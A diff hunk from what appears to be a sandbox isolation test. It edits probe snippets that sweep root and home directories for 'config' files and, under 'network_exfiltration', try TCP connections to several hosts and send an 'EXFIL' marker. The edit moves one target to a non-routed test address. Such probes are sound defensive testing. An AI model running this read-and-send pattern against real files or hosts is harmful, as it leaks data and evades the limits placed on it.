@@ -129,7 +129,7 @@ for root in ("/", "/tmp", "/work", "/home", "/root"):
             try_read(dirpath + "/config")
 """,
     "network_exfiltration": """
-for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "1.1.1.1"):
+for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "192.0.2.1"):   # 192.0.2.1: TEST-NET, never routed
     try:
         socket.create_connection((host, W["tcp_port"]), timeout=1).sendall(b"EXFIL " + MARK.encode())
         print("CONNECTED", host)
